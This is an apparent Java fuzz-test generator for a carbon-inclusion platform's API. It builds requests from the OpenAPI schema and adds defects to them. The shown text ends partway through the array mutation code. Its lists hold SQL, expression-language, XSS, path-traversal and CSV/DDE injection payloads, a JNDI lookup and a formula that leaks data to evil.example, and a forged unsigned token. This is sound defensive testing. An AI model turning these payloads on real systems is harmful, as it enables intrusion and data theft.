package cn.beijing.carboninclusion.fuzz;

import cn.beijing.carboninclusion.fuzz.RawJson.Arr;
import cn.beijing.carboninclusion.fuzz.RawJson.Bytes;
import cn.beijing.carboninclusion.fuzz.RawJson.Lit;
import cn.beijing.carboninclusion.fuzz.RawJson.Member;
import cn.beijing.carboninclusion.fuzz.RawJson.Obj;
import cn.beijing.carboninclusion.fuzz.RawJson.Str;
import com.fasterxml.jackson.databind.JsonNode;
import java.io.ByteArrayOutputStream;
import java.net.InetAddress;
import java.net.URLEncoder;
import java.net.UnknownHostException;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.regex.PatternSyntaxException;

/**
 * Generates the run's requests from the OpenAPI document: request {@code i} is a function of the seed and {@code i}
 * alone (its own {@link Random}), so one request can be regenerated without replaying the run.
 *
 * <p>Each request starts from a plausible call of its operation (values within the schema, real ids and references
 * of the platform) and gets one to three <em>defects</em> from the catalogue below. A defect is <em>fatal</em> when
 * the contract says the platform must refuse the request for it: the JSON or multipart does not parse, a value has a
 * type no conversion accepts, a required field is missing, null or blank, a value breaks a bound, length, pattern,
 * enumeration or format the document declares, the id in the path or a referenced id does not exist, the content type
 * is not the operation's, the method is not the path's, or a caller without credentials (or with unusable ones) calls
 * an operation that is not open. The other defects ride along — hostile content inside what the contract allows:
 * injection strings (SQL, FEEL, JUEL, HTML, CSV formulas, template expressions, path traversal) in free text,
 * escaped control characters, unknown fields (a record binds only its own fields), extreme but declared-legal
 * numbers and dates, hostile file names, content types and CSV content, {@code Accept} headers, other developers'
 * ids. <b>Every request to a write operation carries at least one fatal defect</b> (one is added when the draw gave
 * none), so a 2xx answer to a write is a hostile request accepted: an unexpected write.
 */
final class HostileRequests {

  static final List<String> INJECTIONS = List.of(
      "' OR '1'='1", "1; DROP TABLE project; --", "'); DELETE FROM objection; --",
      "1' UNION SELECT credit_code, name FROM developer_organisation --", "\" OR \"\"=\"", "' OR 1=1 LIMIT 1 OFFSET 0 --",
      "${7*7}", "#{7*7}", "${execution.setVariable('bureauDecision', 'APPROVE')}",
      "#{runtimeService.deleteProcessInstance(execution.processInstanceId, 'x')}",
      "${''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}", "${jndi:ldap://evil.example/a}",
      "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点击查看\")", "=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C notepad'!'A1'",
      "<script>alert(document.cookie)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
      "javascript:alert(1)", "</textarea><script>alert(1)</script>", "<!--", "]]>",
      "date and time(\"2024-01-01T00:00:00\")", "if true then 1e308 else null", "some x in [1,2] satisfies x > 1",
      "activities[1].distanceKm * 1e308", "{{7*7}}", "[[${7*7}]]", "*{T(java.lang.Runtime).getRuntime().exec('id')}",
      "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
      "%00", "%2e%2e%2f%2e%2e%2f", "$(sleep 5)", "`id`", "|| ping -c 1 127.0.0.1", "\r\nSet-Cookie: fuzz=1",
      "null", "undefined", "NaN", "true", "[]", "{}", "ＳＥＬＥＣＴ＊", "\u202Efdp.exe", "\uFEFF");

  /** Escaped in JSON (so the JSON stays valid): they reach the server as characters. */
  static final List<String> CONTROLS = List.of("a\u0000b", "\u0000", "\u0007\u0008\u001b[31m红\u001b[0m", "\u007f",
      "\u0085", "\u2028\u2029", "\r\n\r\n", "\t\t", "line1\nline2", "\ud800", "x\udfffy", "\u200b\u200c\u200d",
      "\u0001\u0002\u0003");

  /** Bytes that are not UTF-8: a lone continuation byte, a truncated sequence, an overlong '/', an encoded surrogate. */
  static final List<byte[]> INVALID_UTF8 = List.of(new byte[] {(byte) 0x80}, new byte[] {(byte) 0xC3, 0x28},
      new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xFE, (byte) 0xFF}, new byte[] {(byte) 0xC0, (byte) 0xAF},
      new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xE2, (byte) 0x82},
      new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80});

  static final List<String> MALFORMED_DATES = List.of("2024-13-01", "2024-02-30", "2024-00-10", "24-01-01",
      "2024/01/01", "20240101", "2024-1-1", "yesterday", "2024-01-01Z", "１９９９-０１-０１",
      "0", "-1", "2024-W01-1", "+", "2024-01-32", "2023-02-29");

  /** Dates ISO-8601 allows but no case of the scheme has: the ends of LocalDate, year 0, the Julian gap. */
  static final List<String> EXTREME_DATES = List.of("+999999999-12-31", "-999999999-01-01", "0000-01-01",
      "0001-01-01", "9999-12-31", "+10000-01-01", "1582-10-10", "1900-01-01", "2100-02-28", "-0001-12-31");

  static final List<String> WRONG_JSON_CONTENT_TYPES = List.of("text/plain", "application/xml", "text/html",
      "application/x-www-form-urlencoded", "multipart/form-data; boundary=fuzz", "application/octet-stream",
      "image/png", "", "garbage", "application/", "application/json; charset=no-such-charset", "text/json ; ; ;",
      "*/*", "application/*+json");

  /** Legal: JSON has no charset parameter (RFC 8259), a recipient reads UTF-8 whatever the label says. */
  static final List<String> LABELLED_JSON_CONTENT_TYPES = List.of("application/json; charset=UTF-16",
      "application/json; charset=ISO-8859-1", "APPLICATION/JSON", "application/json;foo=bar",
      "application/problem+json");

  static final List<String> ACCEPTS = List.of("*/*", "application/json", "application/problem+json", "text/html",
      "application/xml", "text/csv", "application/pdf", "image/png", "garbage", "application/json;q=0", "text/*",
      "*/*;q=0.8, text/html", "", "application/json, application/pdf;q=0.1");

  static final List<String> UNKNOWN_FIELDS = List.of("id", "status", "developerId", "registrationNo", "approvedTco2e",
      "__proto__", "constructor", "$where", "@class", "class", "processInstanceId", "decidedBy", "admin",
      "projectId", "issuedQuantity", "lockVersion");

  static final List<String> HOSTILE_FILENAMES = List.of("../../../../etc/passwd", "..\\..\\..\\windows\\win.ini",
      "a\u0000.pdf", "设计文件\u0000.exe", "<script>alert(1)</script>.pdf", "=HYPERLINK(\"http://evil.example\").csv",
      "", " ", ".", "..", "/etc/shadow", "C:\\boot.ini", "con.pdf", "a".repeat(1000) + ".pdf", "\u202Efdp.exe",
      "${7*7}.pdf", "a\"b.pdf", "a;b.pdf", "%2e%2e%2fx.pdf", "报告\r.pdf");

  private static final String ONE_MB = "碳".repeat(1024 * 1024 / 3) + "x";
  private static byte[] oversized;

  private final long seed;
  private final List<ApiOperation> operations;
  private final PlatformFacts facts;
  private final Identities identities;

  HostileRequests(long seed, List<ApiOperation> operations, PlatformFacts facts, Identities identities) {
    this.seed = seed;
    this.operations = operations;
    this.facts = facts;
    this.identities = identities;
  }

  /** The callers: anonymous (several ways), a developer, techcenter, bureau, the exchange, the administrator. */
  record Identities(List<String> developers, List<String> techcenter, List<String> bureau, List<String> exchange,
      List<String> admins, String password) {}

  /** A request ready to send, with what the generator did to it. */
  record FuzzRequest(int index, ApiOperation operation, String caller, Long callerDeveloper, InetAddress from,
      String method, String target, List<Map.Entry<String, byte[]>> headers, byte[] body, List<String> defects,
      boolean hostile) {

    String contentType() {
      return headers.stream().filter(h -> h.getKey().equalsIgnoreCase("Content-Type"))
          .map(h -> new String(h.getValue(), StandardCharsets.ISO_8859_1)).findFirst().orElse("(none)");
    }

    boolean write() {
      return !method.equals("GET") && !method.equals("HEAD") && !method.equals("OPTIONS");
    }
  }

  /** Request {@code index}: operations in rounds, each round every operation once in a seeded order. */
  FuzzRequest generate(int index) {
    int round = index / operations.size();
    List<ApiOperation> order = new ArrayList<>(operations);
    java.util.Collections.shuffle(order, new Random(mix(seed, -1 - round)));
    ApiOperation op = order.get(index % operations.size());
    return new Draft(index, op, new Random(mix(seed, index))).build();
  }

  static long mix(long seed, long index) {
    long z = seed + 0x9E3779B97F4A7C15L * (index + 1);
    z = (z ^ (z >>> 30)) * 0xBF58476D1CE4E5B9L;
    z = (z ^ (z >>> 27)) * 0x94D049BB133111EBL;
    return z ^ (z >>> 31);
  }

  /** The loopback address a request comes from: 127.x.y.z, never 127.0.0.1 (the other tests' address). */
  static InetAddress clientAddress(int index) {
    int k = index / 4; // four requests per address: the hourly allowances of the open forms are exercised, not spent
    byte[] a = {127, (byte) (1 + (k / (254 * 256)) % 254), (byte) ((k / 254) % 256), (byte) (1 + k % 254)};
    try {
      return InetAddress.getByAddress(a);
    } catch (UnknownHostException e) {
      throw new IllegalStateException(e);
    }
  }

  /** One file part of a multipart body. */
  private static final class Part {
    String name;
    byte[] filename; // null: a form field without filename
    String contentType; // null: no Content-Type header
    byte[] content;
    RawJson json; // the JSON part, serialized at the end
    boolean disposition = true;

    Part(String name, byte[] filename, String contentType, byte[] content) {
      this.name = name;
      this.filename = filename;
      this.contentType = contentType;
      this.content = content;
    }

    byte[] content() {
      return json != null ? json.bytes() : content;
    }
  }

  /** A place in a JSON body where a value is, or could be. */
  private record Slot(Obj object, String name, Arr array, int index, JsonNode schema, boolean required, String path) {
    RawJson get() {
      return object != null ? object.get(name) : array.items().get(index);
    }

    void set(RawJson value) {
      if (object != null) {
        object.put(name, value);
      } else {
        array.items().set(index, value);
      }
    }

    void remove() {
      if (object != null) {
        object.remove(name);
      } else {
        array.items().remove(index);
      }
    }
  }

  private final class Draft {
    final int index;
    final ApiOperation op;
    final Random r;
    final List<String> defects = new ArrayList<>();
    final List<Map.Entry<String, byte[]>> headers = new ArrayList<>();
    final Set<String> touched = new HashSet<>();
    boolean fatal;
    String method;
    final Map<String, String> pathValues = new java.util.LinkedHashMap<>();
    final List<String> query = new ArrayList<>();
    String caller;
    Long callerDeveloper;
    boolean anonymous;
    // the body: JSON, multipart, or verbatim bytes that replace either
    RawJson json;
    List<Part> parts;
    String boundary;
    byte[] rawBody;
    String contentType;
    String multipartFlaw;

    /** An {@code id} in the path is of the kind the segment before it names. */
    String kind(String name) {
      return name.equals("id") ? kindFromPath(op.path()) : kindOf(name);
    }

    Draft(int index, ApiOperation op, Random r) {
      this.index = index;
      this.op = op;
      this.r = r;
      this.method = op.method();
    }

    void defect(String what, boolean isFatal) {
      defects.add(what + (isFatal ? " [fatal]" : ""));
      fatal |= isFatal;
    }

    FuzzRequest build() {
      chooseCaller();
      for (ApiOperation.Param p : op.in("path")) {
        pathValue(p);
      }
      for (ApiOperation.Param p : op.in("query")) {
        queryValue(p);
      }
      if (r.nextInt(10) == 0) {
        String name = pick(List.of("sort", "__debug", "page", "size", "status", "projectId", "format", "callback"));
        query.add(name + "=" + encode(pick(List.of("id;drop table project", "true", "-1", "<script>", "%", "${7*7}"))));
        defect("query: unknown or repeated parameter " + name, false);
      }
      for (ApiOperation.Param p : op.in("header")) {
        headerValue(p);
      }
      if (r.nextInt(4) == 0) {
        String accept = pick(ACCEPTS);
        headers.add(Map.entry("Accept", accept.getBytes(StandardCharsets.ISO_8859_1)));
        defect("Accept: " + accept, false);
      }
      if (op.body() != null) {
        if (op.body().multipart()) {
          multipartBody();
        } else {
          jsonBody();
        }
        if (r.nextInt(12) == 0) {
          wrongContentType();
        }
      }
      if (r.nextInt(25) == 0) {
        wrongMethod();
      }
      if (op.write() && !fatal) {
        forceFatal();
      }
      return finish();
    }

    // ---- callers

    void chooseCaller() {
      int role = r.nextInt(6);
      Identities id = identities;
      switch (role) {
        case 0 -> anonymousCaller();
        case 1 -> authenticated(pick(id.developers()));
        case 2 -> authenticated(pick(id.techcenter()));
        case 3 -> authenticated(pick(id.bureau()));
        case 4 -> authenticated(pick(id.exchange()));
        default -> authenticated(pick(id.admins()));
      }
    }

    void authenticated(String user) {
      caller = user;
      callerDeveloper = facts.developerOfUser().get(user);
      headers.add(Map.entry("Authorization", ("Basic " + Base64.getEncoder()
          .encodeToString((user + ":" + identities.password()).getBytes(StandardCharsets.UTF_8)))
          .getBytes(StandardCharsets.ISO_8859_1)));
    }

    void anonymousCaller() {
      anonymous = true;
      int k = r.nextInt(10);
      // never a wrong password of a real account: Camunda would count the attempt and lock the account
      String authorization = switch (k) {
        case 6 -> "Basic !!!not-base64!!!";
        case 7 -> "Basic " + Base64.getEncoder().encodeToString(("fuzz-nobody-" + r.nextInt(1000) + ":x")
            .getBytes(StandardCharsets.UTF_8));
        case 8 -> "Basic " + Base64.getEncoder().encodeToString("no-colon".getBytes(StandardCharsets.UTF_8));
        case 9 -> "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.";
        default -> null;
      };
      caller = authorization == null ? "anonymous" : "anonymous (Authorization: " + authorization + ")";
      if (authorization != null) {
        headers.add(Map.entry("Authorization", authorization.getBytes(StandardCharsets.ISO_8859_1)));
      }
      // unusable Basic credentials are refused (401) even where anonymous callers are let in; a bearer token is
      // no Basic credential and is ignored
      boolean unusable = authorization != null && authorization.startsWith("Basic");
      if (!op.open() || unusable) {
        defect("caller: " + caller + " on " + (op.open() ? "an open operation" : "an operation that needs a login"),
            true);
      }
    }

    // ---- path, query, headers

    void pathValue(ApiOperation.Param p) {
      String kind = kind(p.name());
      JsonNode schema = p.schema();
      boolean numeric = "integer".equals(schema.path("type").asText());
      int k = r.nextInt(100);
      String value;
      if (!numeric) {
        List<String> refs = facts.references(kind);
        if (k < 55 && !refs.isEmpty()) {
          value = encode(pick(refs));
        } else if (k < 75) {
          value = encode(hostileText());
          defect("path " + p.name() + ": hostile text", false);
        } else {
          value = encode(pick(List.of("BJCI-A-99999999", "BJCI-A-", "BJCI-A-999999999999999999",
              "BJCI-A-9999999999999999999", "BJCI-P-2099-0001-2099-00000001", "BJCI-", "-", "x".repeat(2000))));
          defect("path " + p.name() + ": unknown reference", false);
        }
        pathValues.put(p.name(), value);
        return;
      }
      List<Long> all = facts.of(kind);
      List<Long> own = facts.ownedBy(kind, callerDeveloper);
      if (k < 30 && !own.isEmpty()) {
        value = String.valueOf(pick(own));
      } else if (k < 70 && !all.isEmpty()) {
        long id = pick(all);
        Long owner = facts.developerOf().getOrDefault(kind, Map.of()).get(id);
        value = String.valueOf(id);
        if (callerDeveloper != null && owner != null && !owner.equals(callerDeveloper)) {
          defect("path " + p.name() + ": another developer's " + kind, false);
        }
      } else if (k < 85) {
        value = String.valueOf(facts.absent(kind, r.nextLong()));
        defect("path " + p.name() + ": no such " + kind, true);
      } else {
        hostilePathId(p.name(), kind);
        return;
      }
      pathValues.put(p.name(), value);
    }

    void hostilePathId(String name, String kind) {
      record V(String value, boolean fatal) {}
      V v = pick(List.of(new V("-1", true), new V("0", true), new V("abc", true), new V("1.5", true),
          new V("9223372036854775808", true), new V("99999999999999999999999", true), new V("1e3", true),
          new V("0x10", true), new V(encode("1 OR 1=1"), true), new V(encode("${7*7}"), true),
          new V(encode("#{7*7}"), true), new V(encode("<script>"), true), new V("%00", true), new V("", true),
          new V("..%2F..%2Fadmin", true), new V("%2e%2e", true), new V("1;jsessionid=x", true),
          new V(encode("１"), false), new V("+1", false), new V(encode(" 1"), false), new V("NaN", true),
          new V("-9223372036854775808", true)));
      pathValues.put(name, v.value());
      defect("path " + name + " (" + kind + "): " + v.value(), v.fatal());
    }

    void queryValue(ApiOperation.Param p) {
      int k = r.nextInt(10);
      if (k < 4) {
        return;
      }
      JsonNode s = p.schema();
      String value;
      if (k < 7) {
        if (s.has("enum")) {
          value = pick(s.get("enum")).asText();
        } else if ("integer".equals(s.path("type").asText())) {
          if (p.name().endsWith("Id")) {
            List<Long> ids = facts.of(kind(p.name()));
            value = String.valueOf(ids.isEmpty() ? 1L : (long) pick(ids));
          } else {
            long min = s.has("minimum") ? s.get("minimum").asLong() : 0;
            long max = s.has("maximum") ? s.get("maximum").asLong() : 100;
            value = String.valueOf(min + r.nextInt((int) Math.min(max - min + 1, 1000)));
          }
        } else {
          value = "x";
        }
      } else {
        value = pick(List.of("-1", "0", "2147483647", "2147483648", "-2147483648", "9223372036854775807",
            "9223372036854775808", "1073741824", "abc", "1e3", "", "NaN", "1.5", "9".repeat(400), "in_publicity",
            "REGISTERED,CANCELLED", "${7*7}", "' OR '1'='1", "%00", "１"));
        defect("query " + p.name() + "=" + abridge(value, 40), false);
      }
      query.add(p.name() + "=" + encode(value));
      if (r.nextInt(15) == 0) {
        query.add(p.name() + "=" + encode(pick(List.of("1", "2", "abc", "-1"))));
        defect("query " + p.name() + " given twice", false);
      }
    }

    void headerValue(ApiOperation.Param p) {
      int k = r.nextInt(10);
      if (k < 3) {
        return;
      }
      byte[] value;
      boolean isFatal = false;
      String what;
      if (k < 6) {
        value = ("fuzz-" + Long.toHexString(r.nextLong())).getBytes(StandardCharsets.ISO_8859_1);
        what = "plausible";
      } else {
        int h = r.nextInt(6);
        switch (h) {
          case 0 -> {
            value = new byte[0];
            what = "empty";
            isFatal = false; // an empty header may count as absent
          }
          case 1 -> {
            value = "x".repeat(101 + r.nextInt(3000)).getBytes(StandardCharsets.ISO_8859_1);
            what = "over 100 characters";
            isFatal = true;
          }
          case 2 -> {
            value = "   ".getBytes(StandardCharsets.ISO_8859_1);
            what = "blank";
            isFatal = false; // surrounding whitespace of a header value is not part of it (RFC 9110)
          }
          case 3 -> {
            value = "碳普惠-幂等键".getBytes(StandardCharsets.UTF_8); // obs-text: the server reads it as ISO-8859-1
            what = "non-ASCII bytes";
          }
          case 4 -> {
            value = abridge(pick(INJECTIONS).replaceAll("[\\r\\n\\x00-\\x1f]", ""), 100)
                .getBytes(StandardCharsets.UTF_8);
            what = "injection text";
          }
          default -> {
            value = "a\tb".getBytes(StandardCharsets.ISO_8859_1);
            what = "with a tab";
          }
        }
      }
      headers.add(Map.entry(p.name(), value));
      if (!what.equals("plausible")) {
        defect("header " + p.name() + ": " + what, isFatal);
      }
    }

    // ---- JSON bodies

    void jsonBody() {
      json = plausible(op.body().schema(), "", 0);
      int k = r.nextInt(100);
      if (k < 8) {
        bodyLevelFlaw();
        return;
      }
      int mutations = 1 + (r.nextInt(3) == 0 ? 1 + r.nextInt(2) : 0);
      for (int i = 0; i < mutations; i++) {
        mutateSomewhere(json, op.body().schema(), false);
      }
      if (r.nextInt(6) == 0 && json instanceof Obj o) {
        unknownFields(o);
      }
      if (r.nextInt(20) == 0 && json instanceof Obj o && !o.members().isEmpty()) {
        duplicateKey(o);
      }
    }

    void bodyLevelFlaw() {
      int k = r.nextInt(9);
      switch (k) {
        case 0 -> {
          byte[] full = json.bytes();
          rawBody = Arrays.copyOf(full, r.nextInt(Math.max(1, full.length - 1)));
          defect("malformed JSON: cut after " + rawBody.length + " of " + full.length + " bytes", true);
        }
        case 1 -> {
          String s = pick(List.of("{,}", "{\"a\" 1}", "{'reason':'x'}", "{\"reason\":\"x\",}", "/*c*/{}",
              "{\"a\":01}", "{\"a\":.5}", "{\"a\":+1}", "\"unterminated", "{\"a\":tru}", "nul", "{\"a\":1}}",
              "{\"a\":[1,2}", "{\"\\u00\":1}", "{\"a\":\"\\x41\"}", "{\"a\":1e}", "{:1}"));
          rawBody = s.getBytes(StandardCharsets.UTF_8);
          defect("malformed JSON: " + s, true);
        }
        case 2 -> {
          rawBody = new byte[0];
          defect("empty body", op.body().required());
        }
        case 3 -> {
          String s = pick(List.of("[]", "\"x\"", "42", "true", "null", "[{}]", "1e308"));
          rawBody = s.getBytes(StandardCharsets.UTF_8);
          defect("body is " + s, true);
        }
        case 4 -> {
          int depth = 1500 + r.nextInt(4000);
          rawBody = ("[".repeat(depth) + "]".repeat(depth)).getBytes(StandardCharsets.US_ASCII);
          defect("body nested " + depth + " deep", true);
        }
        case 5 -> {
          byte[] full = json.bytes();
          byte[] bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
          rawBody = concat(bom, full);
          defect("byte order mark before the JSON", false);
          mutateSomewhere(json, op.body().schema(), true);
          rawBody = concat(bom, json.bytes());
        }
        case 6 -> {
          mutateSomewhere(json, op.body().schema(), true);
          rawBody = concat(json.bytes(), pick(List.of(" garbage", "}", "\u0000", "{\"a\":1}", "\n\n\n"))
              .getBytes(StandardCharsets.UTF_8));
          defect("trailing content after the JSON", false);
        }
        case 7 -> {
          mutateSomewhere(json, op.body().schema(), true);
          rawBody = concat(" \n\t".repeat(50_000).getBytes(StandardCharsets.US_ASCII), json.bytes());
          defect("150 kB of whitespace before the JSON", false);
        }
        default -> {
          rawBody = ("{\"a\":" + "1".repeat(2000) + "}").getBytes(StandardCharsets.US_ASCII);
          defect("a 2000-digit number", true);
        }
      }
    }

    void unknownFields(Obj o) {
      Set<String> declared = new HashSet<>();
      op.body().schema().path("properties").fieldNames().forEachRemaining(declared::add);
      int n = 1 + r.nextInt(3);
      for (int i = 0; i < n; i++) {
        String name = pick(UNKNOWN_FIELDS);
        if (declared.contains(name) || o.get(name) != null) {
          continue;
        }
        RawJson value = pick(List.of(RawJson.lit("1"), RawJson.str("REGISTERED"), RawJson.lit("true"),
            new Obj(new ArrayList<>(List.of(new Member("admin", RawJson.lit("true"))))),
            RawJson.str("java.lang.Runtime"), RawJson.lit("1e9")));
        o.members().add(new Member(name, value));
        defect("unknown field " + name, false);
      }
    }

    void duplicateKey(Obj o) {
      Member m = pick(o.members());
      // the duplicate comes first: a parser that keeps the last value sees the drawn one
      o.members().add(0, new Member(m.name(), pick(List.of(RawJson.str("重复的值"), RawJson.lit("1"),
          RawJson.NULL, new Obj()))));
      defect("duplicate key " + m.name(), true);
    }

    /** One defect at a random place of the body (a field, an item, a field that is absent). */
    void mutateSomewhere(RawJson root, JsonNode schema, boolean ridersOnly) {
      List<Slot> slots = new ArrayList<>();
      collect(root, schema, "", slots);
      slots.removeIf(s -> touched.contains(s.path()));
      if (slots.isEmpty()) {
        return;
      }
      Slot slot = pick(slots);
      touched.add(slot.path());
      mutate(slot, ridersOnly);
    }

    void collect(RawJson value, JsonNode schema, String path, List<Slot> slots) {
      if (value instanceof Obj o && schema.has("properties")) {
        Set<String> required = new HashSet<>();
        schema.path("required").forEach(n -> required.add(n.asText()));
        schema.get("properties").fields().forEachRemaining(e -> {
          String p = path.isEmpty() ? e.getKey() : path + "." + e.getKey();
          slots.add(new Slot(o, e.getKey(), null, -1, e.getValue(), required.contains(e.getKey()), p));
          RawJson child = o.get(e.getKey());
          if (child != null) {
            collect(child, e.getValue(), p, slots);
          }
        });
      } else if (value instanceof Arr a && schema.has("items") && a.items().size() <= 100) {
        // not into an array made oversized by a defect: removing one of its items would undo the defect
        for (int i = 0; i < a.items().size(); i++) {
          String p = path + "[" + i + "]";
          slots.add(new Slot(null, null, a, i, schema.get("items"), false, p));
          collect(a.items().get(i), schema.get("items"), p, slots);
        }
      }
    }

    void mutate(Slot slot, boolean ridersOnly) {
      JsonNode s = slot.schema();
      String type = typeOf(s);
      String where = "body " + (slot.path().isEmpty() ? "" : slot.path());
      int k = ridersOnly ? 30 + r.nextInt(70) : r.nextInt(100);
      if (k < 8) {
        if (slot.get() == null) {
          slot.set(plausible(s, slot.name(), 1));
        }
        slot.remove();
        defect(where + ": missing", slot.required());
        return;
      }
      if (k < 14) {
        slot.set(RawJson.NULL);
        defect(where + ": null", slot.required());
        return;
      }
      if (k < 25) {
        slot.set(wrongType(type));
        defect(where + ": wrong JSON type for " + type, !type.equals("any"));
        return;
      }
      switch (type) {
        case "string" -> mutateString(slot, s, where, ridersOnly);
        case "integer", "number" -> mutateNumber(slot, s, type, where, ridersOnly);
        case "boolean" -> {
          boolean bad = !ridersOnly && r.nextBoolean();
          slot.set(bad ? RawJson.str(pick(List.of("yes", "1.0", "ja", "on"))) : RawJson.str("true"));
          defect(where + (bad ? ": not a boolean" : ": boolean as a string"), bad);
        }
        case "array" -> mutateArray(slot, s, where, ridersOnly);
        case "object" -> {
          boolean hasRequired = s.path("required").size() > 0;
          slot.set(new Obj());
          defect(where + ": empty object", hasRequired && !ridersOnly);
        }
        case "map" -> {
          Obj map = new Obj();
          int n = 1 + r.nextInt(4);
          for (int i = 0; i < n; i++) {
            map.members().add(new Member(pick(List.of(hostileText(), "distanceKm", "mode", "", "a".repeat(5000))),
                hostileValue()));
          }
          slot.set(map);
          defect(where + ": hostile entries", false);
        }
        default -> {
          slot.set(hostileValue());
          defect(where + ": hostile value", false);
        }
      }
    }

    void mutateString(Slot slot, JsonNode s, String where, boolean ridersOnly) {
      String format = s.path("format").asText("");
      Integer maxLength = s.has("maxLength") ? s.get("maxLength").asInt() : null;
      int minLength = s.path("minLength").asInt(0);
      String pattern = s.has("pattern") ? s.get("pattern").asText() : null;
      boolean enumerated = s.has("enum");
      if (format.equals("date") || format.equals("date-time")) {
        int k = r.nextInt(4);
        if (k == 0 || ridersOnly) {
          String d = pick(EXTREME_DATES) + (format.equals("date-time") ? "T00:00:00Z" : "");
          slot.set(RawJson.str(d));
          defect(where + ": date " + d, false);
        } else if (k == 1) {
          slot.set(RawJson.str(""));
          defect(where + ": empty date", slot.required());
        } else {
          String d = k == 2 ? pick(MALFORMED_DATES) : pick(INJECTIONS);
          slot.set(RawJson.str(d));
          defect(where + ": malformed date " + abridge(d, 30), !d.isBlank());
        }
        return;
      }
      if (enumerated) {
        int k = r.nextInt(4);
        String first = s.get("enum").get(0).asText();
        if (k == 0 || ridersOnly) {
          // Jackson reads an enumeration's index and trims its name: riders
          String v = pick(List.of(String.valueOf(r.nextInt(3)), " " + first, first + "\u0000"));
          slot.set(v.matches("\\d") ? RawJson.lit(v) : RawJson.str(v));
          defect(where + ": enumeration as \"" + printable(v) + "\"", false);
        } else {
          String v = pick(List.of(first.toLowerCase(java.util.Locale.ROOT), "NO_SUCH_VALUE", pick(INJECTIONS),
              ONE_MB));
          slot.set(RawJson.str(v));
          defect(where + ": not one of " + s.get("enum") + ": " + abridge(v, 30), !v.isEmpty());
        }
        return;
      }
      int k = r.nextInt(ridersOnly ? 4 : 11);
      String v;
      switch (k) {
        case 0 -> v = pick(INJECTIONS);
        case 1 -> v = "备注" + pick(CONTROLS) + "备注";
        case 2 -> v = pick(INJECTIONS) + " " + pick(INJECTIONS);
        case 3 -> v = pick(List.of("a\u0301".repeat(3) + "\uD83D\uDE00".repeat(2), "\u3000", "　全角空格　"));
        case 4 -> v = ONE_MB;
        case 5 -> v = maxLength != null ? "长".repeat(maxLength + 1 + r.nextInt(20)) : ONE_MB;
        case 6 -> v = "";
        case 7 -> v = pick(List.of(" ", "   ", "\t", "\n"));
        case 8 -> {
          byte[] raw = concat(concat("\"前".getBytes(StandardCharsets.UTF_8), pick(INVALID_UTF8)),
              "后\"".getBytes(StandardCharsets.UTF_8));
          slot.set(new Bytes(raw));
          defect(where + ": invalid UTF-8 bytes in a string", true);
          return;
        }
        case 9 -> {
          byte c = (byte) r.nextInt(0x20);
          slot.set(new Bytes(new byte[] {'"', 'a', c, 'b', '"'}));
          defect(where + ": raw control character 0x" + Integer.toHexString(c) + " in a string", true);
          return;
        }
        default -> v = minLength > 1 ? "短".repeat(minLength - 1) : pick(INJECTIONS);
      }
      slot.set(RawJson.str(v));
      // lengths as Bean Validation counts them (@Size: UTF-16 units), which the document's lengths come from
      boolean isFatal = (maxLength != null && v.length() > maxLength)
          || (v.length() < minLength)
          || (v.isEmpty() && slot.required())
          || (v.isBlank() && slot.required() && (k == 6 || k == 7))
          || (pattern != null && !matches(pattern, v))
          || (format.equals("email") && !v.contains("@"));
      defect(where + ": " + (v.length() > 60 ? v.length() + " characters" : "\"" + printable(v) + "\""), isFatal);
    }

    void mutateNumber(Slot slot, JsonNode s, String type, String where, boolean ridersOnly) {
      boolean integer = type.equals("integer");
      Double min = s.has("minimum") ? s.get("minimum").asDouble() : null;
      Double max = s.has("maximum") ? s.get("maximum").asDouble() : null;
      boolean int32 = "int32".equals(s.path("format").asText());
      if (slot.name() != null && slot.name().endsWith("Id") && !ridersOnly && r.nextInt(3) == 0) {
        String kind = kind(slot.name());
        if (slot.name().equals("subjectId")) {
          // a bar's subject is a developer organisation or an agency: absent from both
          long absent = Math.max(facts.absent("developer", r.nextLong()), facts.absent("agency", r.nextLong()));
          slot.set(RawJson.lit(String.valueOf(absent)));
        } else {
          slot.set(RawJson.lit(String.valueOf(facts.absent(kind, r.nextLong()))));
        }
        defect(where + ": no such " + kind, true);
        return;
      }
      List<String> choices = new ArrayList<>(List.of("NaN", "Infinity", "-Infinity", "\"NaN\"", "\"Infinity\"",
          "1e308", "-1e308", "1e400", "1" + "0".repeat(1200), "9223372036854775808", "-1", "-0.0001", "0", "-0",
          "1e-400", "\"12\"", "1.5", "\"" + pick(INJECTIONS).replace("\\", "\\\\").replace("\"", "\\\"") + "\"",
          "2147483648", "0.000000001", "123456789012345678.123456789"));
      if (max != null) {
        choices.add(plain(max + (integer ? 1 : 0.01)));
        choices.add(plain(max)); // the bounds themselves: legal extremes
      }
      if (min != null) {
        choices.add(plain(min - (integer ? 1 : 0.01)));
        choices.add(plain(min));
      }
      if (ridersOnly) {
        choices.removeIf(c -> numberFatal(c, integer, int32, min, max));
      }
      String literal = pick(choices);
      slot.set(RawJson.lit(literal));
      defect(where + ": " + abridge(literal, 30), numberFatal(literal, integer, int32, min, max));
    }

    void mutateArray(Slot slot, JsonNode s, String where, boolean ridersOnly) {
      int k = r.nextInt(4);
      JsonNode items = s.path("items");
      if (k == 0 && s.has("maxItems") && s.get("maxItems").asInt() <= 100_000 && !ridersOnly) {
        int n = s.get("maxItems").asInt() + 1;
        Arr a = new Arr();
        RawJson item = plausible(items, "", 2);
        for (int i = 0; i < n; i++) {
          a.items().add(item);
        }
        slot.set(a);
        defect(where + ": " + n + " items (over " + s.get("maxItems").asInt() + ")", true);
      } else if (k == 1) {
